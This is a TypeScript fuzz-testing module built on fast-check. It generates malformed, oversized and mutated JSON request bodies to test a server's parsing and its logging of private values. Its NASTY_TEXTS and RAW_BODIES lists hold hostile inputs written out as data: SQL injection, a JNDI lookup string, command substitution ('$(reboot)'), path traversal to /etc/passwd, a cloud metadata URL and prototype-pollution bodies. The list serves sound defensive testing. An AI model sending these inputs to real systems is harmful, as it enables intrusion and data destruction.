import type { JsonObject } from '@userport/contracts';
import fc from 'fast-check';

/** Stands in every request where a caller might put something private; no log line may hold it. */
export const PRIVATE_MARK = 'private-mark-7d2e91';

/** Texts that have broken parsers, databases, templates and shells. */
export const NASTY_TEXTS = [
  ...[
    '',
    ' ',
    '\0',
    'a\0b',
    '\uFEFF',
    '\u202E',
    '\uD800',
    '\uDC00\uD800',
    '💥'.repeat(50),
    'ı',
    'ﬀ',
    '\u2028',
  ],
  ...[
    "'; DROP TABLE task_events; --",
    '" OR ""="',
    '${jndi:ldap://x.example/a}',
    '{{7*7}}',
    '$(reboot)',
    '%s%n',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows',
    'file:///etc/passwd',
    'http://169.254.169.254/',
    '<script>',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'then',
    'NaN',
    'null',
    'undefined',
    '-0',
    '1e999',
  ],
  ...['9'.repeat(400), 'a'.repeat(10_000), '(a+)+$', 'true', '0x1F', '1970-01-01', '2026-13-45T99:99:99Z'],
] as const;

const NASTY_VALUES: readonly unknown[] = [
  ...[
    null,
    true,
    false,
    0,
    -0,
    -1,
    1.5,
    1e308,
    Number.MAX_SAFE_INTEGER + 2,
    [],
    {},
    [[]],
    [null],
    { '': '' },
  ],
  ...NASTY_TEXTS,
];

/** JSON that nobody would send on purpose. */
const nastyJson = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...NASTY_VALUES) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...NASTY_TEXTS), { maxLength: 20 }) },
);

type Change = 'replace' | 'remove' | 'rename';

/** The same value with its n-th field or item changed; counted in the order in which JSON writes them. */
export function changed(value: unknown, n: number, change: Change, by: unknown): unknown {
  let left = n;
  const visit = (node: unknown): unknown => {
    if (typeof node !== 'object' || node === null) return node;
    const entries = Object.entries(node).flatMap(([key, child]): (readonly [string, unknown])[] => {
      left -= 1;
      if (left !== -1) return [[key, left < -1 ? child : visit(child)]];
      if (change === 'remove') return [];
      return [change === 'rename' ? [typeof by === 'string' ? by : key.repeat(2), child] : [key, by]];
    });
    return Array.isArray(node) ? entries.map(([, child]) => child) : Object.fromEntries(entries);
  };
  return visit(value);
}

/** How many fields and items a value has, inner ones too. */
export const placesIn = (value: unknown): number =>
  typeof value !== 'object' || value === null
    ? 0
    : Object.values(value).reduce<number>((sum, child) => sum + 1 + placesIn(child), 0);

const jsonBytes = (value: unknown): Buffer => Buffer.from(JSON.stringify(value) ?? '');

/** The first fields are those of the envelope; a large sample would hide them. */
const FIRST_PLACES = 9;

/** A sample with some of its places changed. */
const changedSample = (samples: readonly JsonObject[]) =>
  fc
    .tuple(
      fc.constantFrom(...samples),
      fc.array(
        fc.tuple(
          fc.oneof(fc.nat(), fc.nat({ max: FIRST_PLACES })),
          fc.constantFrom<Change>('replace', 'replace', 'remove', 'rename'),
          nastyJson,
        ),
        { maxLength: 4 },
      ),
    )
    .map(([sample, changes]) =>
      changes.reduce<unknown>((value, [n, change, by]) => {
        const places = placesIn(value);
        return places === 0 ? value : changed(value, n % places, change, by);
      }, sample),
    );

/** Deep enough for a parser that recurses to run out of stack. */
const DEPTH = 200_000;
const MANY = 100_000;
const MB = 1024 * 1024;

const RAW_BODIES: readonly Buffer[] = [
  ...[
    '',
    'null',
    '0',
    '"text"',
    '[]',
    '{}',
    '{',
    '}',
    '[1,]',
    "{'a':1}",
    '{"a":1}{"b":2}',
    'NaN',
    '\uFEFF{}',
  ],
  ...['{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}', '{"a":1,"a":2}'],
  ...['a=1&b[c]=2', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', '--x\r\n\r\n--x--'],
  ...['{"n":1e99999,"m":-1e-99999}', '"\\ud800"', '{"\\u0000":"\\u0000"}', '\0\0\0\0', '// comment\n{}'],
].map((text) => Buffer.from(text));

const LARGE_BODIES: readonly (() => Buffer)[] = [
  () => Buffer.from('['.repeat(DEPTH)),
  () => Buffer.from(`${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`),
  () => Buffer.from(`${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`),
  () => Buffer.from(`{"a":"${'x'.repeat(MB)}"}`),
  () => Buffer.from(`[${'0,'.repeat(MANY)}0]`),
  () => Buffer.from(`{${Array.from({ length: MANY }, (_, n) => `"k${n}":0`).join(',')}}`),
  () => Buffer.from('9'.repeat(MB)),
];

/** What a server takes. */
export interface Taken {
  /** Bodies that it would take. */
  readonly samples: readonly JsonObject[];
  /** Makes what a body says of itself true again after a change, such as a hash. */
  readonly seal: (body: unknown) => unknown;
}

/** Bodies of requests: changed samples above all, then other JSON, other encodings, bytes, and a few large ones. */
export const bodies = ({ samples, seal }: Taken): fc.Arbitrary<Buffer> =>
  fc.oneof(
    { weight: 20, arbitrary: changedSample(samples).map(jsonBytes) },
    { weight: 20, arbitrary: changedSample(samples).map(seal).map(jsonBytes) },
    {
      weight: 5,
      arbitrary: fc.constantFrom(...samples).map((one) => jsonBytes({ ...one, note: PRIVATE_MARK })),
    },
    { weight: 10, arbitrary: nastyJson.map(jsonBytes) },
    {
      weight: 6,
      arbitrary: changedSample(samples)
        .map(jsonBytes)
        .chain((bytes) => fc.nat({ max: bytes.length }).map((length) => bytes.subarray(0, length))),
    },
    {
      weight: 4,
      arbitrary: changedSample(samples).map((one) => Buffer.from(JSON.stringify(one) ?? '', 'utf16le')),
    },
    { weight: 6, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
    { weight: 15, arbitrary: fc.constantFrom(...RAW_BODIES) },
    { weight: 2, arbitrary: fc.constantFrom(...LARGE_BODIES).map((make) => make()) },
  );
